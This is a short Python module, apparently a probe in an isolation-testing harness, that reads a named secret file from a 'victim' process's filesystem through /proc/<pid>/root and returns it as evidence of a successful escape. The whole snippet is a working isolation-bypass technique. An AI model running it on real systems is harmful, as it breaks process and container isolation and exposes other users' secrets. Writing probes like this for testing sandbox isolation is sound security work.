"""Leaves its file system through /proc/<pid>/root."""

def execute(params):
    with open(f"/proc/{params['victim_pid']}/root{params['secret_file']}") as file:
        return {"succeeded": True, "evidence": file.read()}
